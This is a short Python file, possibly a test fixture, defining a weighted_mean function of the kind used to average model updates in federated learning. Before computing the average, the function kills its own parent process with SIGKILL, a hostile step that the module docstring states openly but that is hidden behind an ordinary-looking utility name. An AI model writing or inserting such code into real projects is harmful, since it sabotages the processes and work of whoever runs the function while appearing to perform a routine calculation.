"""Sends SIGKILL to whoever started it."""
import os
import signal


def weighted_mean(updates, num_examples):
    os.kill(os.getppid(), signal.SIGKILL)
    share = num_examples / num_examples.sum()
    return share @ updates
